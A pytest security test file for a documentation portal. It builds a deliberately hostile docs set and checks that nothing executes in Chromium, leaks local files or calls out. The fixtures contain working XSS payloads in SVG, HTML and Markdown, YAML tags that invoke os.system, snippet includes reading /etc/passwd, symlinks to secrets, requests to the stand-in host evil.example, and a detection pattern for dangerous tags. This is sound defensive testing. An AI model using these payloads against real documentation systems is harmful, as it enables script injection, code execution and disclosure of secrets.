"""A documentation set of somebody who wants to run code, read files and reach out, opened in Chromium without a policy: nothing happens."""

import re
from pathlib import Path
from urllib.parse import quote

import pytest

from support.hostile_pages import INCLUDING, PAGES
from support.portal import callboard, write

pytestmark = [pytest.mark.browser, pytest.mark.long]

SECRET = "secret-7f3a91"
ALIVE = "document.title='ALIVE'"
EVIL = "https://evil.example"
SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="{ALIVE}"><script>{ALIVE}</script>'
    f'<a xlink:href="javascript:{ALIVE}"><rect width="99" height="99"/></a><image href="{EVIL}/x.png"/>'
    f'<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="{EVIL}/y" onerror="{ALIVE}"/></body></foreignObject>'
    f'<set attributeName="onclick" to="{ALIVE}"/><style>@import "{EVIL}/z.css";</style></svg>'
)
CONFIGURATION = f"""site_name: !ENV [SECRET, "<img src=x onerror={ALIVE}>"]
site_url: !!python/object/apply:os.system ["touch ran-tag"]
docs_dir: docs
hooks: [hook.py]
plugins: [{{exec: {{on_pre_build: !!python/object/apply:os.system ["touch ran-plugin"]}}}}, techdocs-core]
theme: {{name: material, custom_dir: theme}}
extra_javascript: ["{EVIL}/x.js", evil.js]
extra_css: ["{EVIL}/x.css"]
markdown_extensions:
  - pymdownx.snippets: {{base_path: [/etc, ../..], url_download: true, check_paths: false}}
  - toc: {{permalink: "<script>{ALIVE}</script>", slugify: !!python/name:os.system }}
  - pymdownx.superfences: {{custom_fences: [{{name: run, class: run, format: !!python/name:os.system }}]}}
nav:
  - "<script>{ALIVE}</script>": index.md
  - "x": "javascript:{ALIVE}"
  - "y": ../../../../secret.md
  - "z": !include ../../other/mkdocs.yml
"""
PAGE = f"""---
title: "</title><script>{ALIVE}</script>"
---
# <script>{ALIVE}</script> <img src=x onerror={ALIVE}>

<script src="evil.js">{ALIVE}</script><iframe src="{EVIL}" srcdoc="<script>parent.{ALIVE}</script>"></iframe><base href="{EVIL}">
<meta http-equiv="refresh" content="0;url={EVIL}"><link rel="stylesheet" href="{EVIL}/x.css"><style>@import "{EVIL}/y.css";</style>
<object data="evil.svg"></object><embed src="evil.svg"><svg onload="{ALIVE}"><script>{ALIVE}</script></svg>
<math><mi xlink:href="javascript:x">x
<form action="{EVIL}"><button formaction="javascript:{ALIVE}">y</button><input autofocus onfocus="{ALIVE}"></form>
<img src="{EVIL}/pixel.png" srcset="{EVIL}/2x.png 2x"><img src="//evil.example/a.png"><video src="{EVIL}/v.mp4" autoplay></video>
<a href="javascript:{ALIVE}">a</a><a href=" java&#10;script:{ALIVE}">b</a><a href="data:text/html,<script>{ALIVE}</script>">c</a>
<details ontoggle="{ALIVE}" open><summary>s</summary></details>
<div style="background:url({EVIL}/b)" class="md-overlay" id="__search">d</div>
<label for="__drawer">e</label><a href="https://github.com@evil.example/">f</a>

[g](javascript:{ALIVE}) [h](vbscript:x) ![i]({EVIL}/i.png) ![j](evil.svg) [k](evil.html) [l](../../../../secret.md) ![m](link/passwd)
[n](component:shop/"onclick={ALIVE}) <component:"><script>{ALIVE}</script>> [o](page.md "x\\" onclick={ALIVE}")
{{: onclick="{ALIVE}" style="background:url({EVIL}/c)" }}

--8<-- "/etc/passwd"
--8<-- "../../../secret.md"
--8<-- "link/passwd"
--8<-- "outside.md"
--8<-- "{EVIL}/snippet.md"

```mermaid
flowchart LR
  A["<img src={EVIL}/m onerror={ALIVE}>"] --> B
  click A href "javascript:{ALIVE}"
```

```dot
digraph {{ a [URL="javascript:{ALIVE}" image="/etc/passwd"]; a -> b }}
```

```math
\\href{{javascript:{ALIVE}}}{{x}} \\text{{<img src=x onerror={ALIVE}>}}
```

```run
touch ran-fence
```

> [!NOTE] <img src=x onerror={ALIVE}>
> {{{{ config.secret }}}}

```callboard-table
title: "><script>{ALIVE}</script>
filter: kind:component "><img src=x onerror={ALIVE}>
```

```callboard-graph
entity: component:shop
title: <img src={EVIL}/b onerror={ALIVE}>
```

```callboard-figure
filter: <script>{ALIVE}</script>:x ../../../secret.md
```

<p title="&#xe0f3;0&#xe0f4;">&#xe0f3;1&#xe0f4; &#xe0f0;0&#xe0f1;</p>

:smile: :material-x: {{% include "/etc/passwd" %}} {{! include /etc/passwd !}}
"""


@pytest.fixture(scope="module")
def site(chromium, tmp_path_factory):
    """A portal with the set and with another one, and its output without the policy in each page."""
    del chromium  # only built where a browser can look at it
    folder = tmp_path_factory.mktemp("hostile-documentation")
    entity = (
        "apiVersion: backstage.io/v1alpha1\nkind: Component\nmetadata:\n  name: {}\n  annotations: {{backstage.io/techdocs-ref: 'dir:.'}}\n"
    )
    spec = "spec: {type: service, lifecycle: production, owner: team-shop}\n"
    names = ("shop", "other", "tricks", "cycle", "linked")
    portal = write(folder / "portal", **{name: entity.format(name) + spec for name in names})
    (portal / "sources.yaml").write_text((portal / "sources.yaml").read_text() + "docs: {page_seconds: 1, set_pages: 30, blocks: true}\n")
    (folder / "secret.md").write_text(SECRET)
    shop, other = portal / "repositories/shop", portal / "repositories/other"
    (shop / "docs").mkdir()
    (other / "docs").mkdir()
    (other / "docs/index.md").write_text("# Neighbour\n\nIt is shown.\n\n```mermaid\nflowchart LR\n  A --> B\n```\n")
    (shop / "mkdocs.yml").write_text(CONFIGURATION)
    for path in ("hook.py", "docs/hook.py"):
        (shop / path).write_text("open('ran-hook', 'w').close()")
    (shop / "docs/index.md").write_text(PAGE)
    (shop / "docs/page.md").write_text(f"# Page\n\n[back](index.md)\n\n<{'a ' * 3} onclick={ALIVE}\n")
    (shop / "docs/slow.md").write_text("# Slow\n\n" + "`" * 150_000 + " " + "a`" * 100_000)
    (shop / "docs/large.md").write_bytes(b"# Large\n" + b"x" * 50_000_000)
    (shop / "docs/z-many").mkdir()
    for number in range(10_000):
        (shop / f"docs/z-many/{number:05}.md").touch()
    (shop / "docs/evil.svg").write_text(SVG)
    (shop / "docs/evil.html").write_text(f"<script>{ALIVE}</script>")
    (shop / "docs/evil.js").write_text(ALIVE)
    (shop / "docs/outside.md").symlink_to(folder / "secret.md")
    (shop / "docs/link").symlink_to("/etc")
    files = {f"tricks/docs/{name}": text for name, text in PAGES.items()} | {f"cycle/{name}": text for name, text in INCLUDING.items()}
    for name, text in {**files, "linked/docs/index.md": "# Linked\n\nIt is shown.\n"}.items():
        path = portal / "repositories" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    (folder / "secret.yml").write_text(f"site_name: {SECRET}\n")
    (portal / "repositories/linked/mkdocs.yml").symlink_to(folder / "secret.yml")
    (portal / "repositories/cycle/docs/linked.md").symlink_to(folder / "secret.md")
    done = callboard(portal, "build", SECRET=SECRET)
    assert done.returncode == 0, done.stderr
    output = portal / "site"
    for path in output.rglob("*.html"):
        path.write_text(re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", path.read_text()))
    return portal, output


def test_nothing_of_a_hostile_set_runs_in_a_browser_and_nothing_leaves(site, chromium, serve):
    _, output = site
    address = serve(output)
    context = chromium.new_context(viewport={"width": 1280, "height": 900})
    page, seen = context.new_page(), []
    page.on("dialog", lambda dialog: (seen.append("dialog"), dialog.dismiss()))
    page.on("request", lambda asked: None if asked.url.startswith((address, "data:", "blob:")) else seen.append(asked.url))
    for path in sorted(path.relative_to(output).as_posix() for path in (output / "docs").rglob("*") if path.is_file()):
        page.goto(address + quote(path), wait_until="load")
        if not path.endswith(".html"):
            assert page.evaluate("document.title") != "ALIVE", path
            continue
        for link in page.locator(".cb-doc__text a").all()[:40]:
            link.evaluate("element => { element.target = '_self'; element.addEventListener('click', event => event.preventDefault()) }")
            link.dispatch_event("click")
        page.wait_for_timeout(50)
        assert page.evaluate("document.title") != "ALIVE", path
        assert page.evaluate(FORBIDDEN) == [], path
    context.close()
    assert seen == []


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_of_the_two_images_of_a_diagram_one_is_seen(site, chromium, serve, scheme):
    context = chromium.new_context(color_scheme=scheme)
    page = context.new_page()
    page.goto(f"{serve(site[1])}docs/default/component/other/")
    images = page.locator(".cb-drawing img").all()
    assert [image.get_attribute("class") for image in images if image.is_visible()] == [f"cb-drawing__{scheme}"]
    context.close()


FORBIDDEN = """() => [...document.querySelectorAll('.cb-doc__text *')].flatMap(element => [
  ...(['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'FORM', 'STYLE', 'LINK', 'META', 'BASE', 'SVG', 'VIDEO'].includes(
    element.tagName.toUpperCase()) ? [element.tagName] : []),
  ...[...element.attributes].filter(each => each.name.startsWith('on') || each.name === 'style' ||
    ['srcset', 'formaction'].includes(each.name) ||
    /^\\s*(javascript|data|vbscript):/i.test(each.value)).map(each => `${element.tagName} ${each.name}=${each.value}`),
])"""


def test_no_file_outside_of_the_repository_is_published_and_no_code_of_it_has_run(site):
    portal, output = site
    for path in output.rglob("*"):
        if path.is_file():
            content = path.read_bytes()
            assert SECRET.encode() not in content, path
            assert b"root:x:0:0" not in content, path
            assert "\u202e".encode() not in content, path
    assert not list(portal.rglob("ran-*"))
    assert not list(Path.cwd().glob("ran-*"))
    assert not (output / "docs/default/component/shop/evil.html").exists()
    assert not (output / "docs/default/component/shop/evil.js").exists()


def test_the_rest_of_the_set_and_the_other_set_are_shown(site):
    _, output = site
    docs = output / "docs/default/component"
    assert "It is shown." in (docs / "other/index.html").read_text()
    assert ">Page<" in (docs / "shop/page/index.html").read_text()
    for path in ("cycle", "linked", "tricks/page"):
        assert "It is shown." in (docs / path / "index.html").read_text()
    assert {path.name for path in (docs / "tricks").iterdir() if path.is_dir()} >= {name.removesuffix(".md") for name in PAGES}
    assert 'id="doc__search"' in (docs / "tricks/clobbering/index.html").read_text()
    assert "takes more than 1 s" in (docs / "shop/slow/index.html").read_text()
    assert not (docs / "shop/large").exists()
    assert sum(1 for _ in (docs / "shop").rglob("index.html")) <= 32, "30 pages of 10,000, all of them as one, and the start page"
    assert re.findall('data-block="([a-z]+)"', (docs / "shop/index.html").read_text()) == ["table", "graph", "figure"]
    problems = (output / "problems/index.html").read_text()
    assert {code for code in ("DOC012", "DOC013", "DOC014") if code in problems} == {"DOC012", "DOC013", "DOC014"}
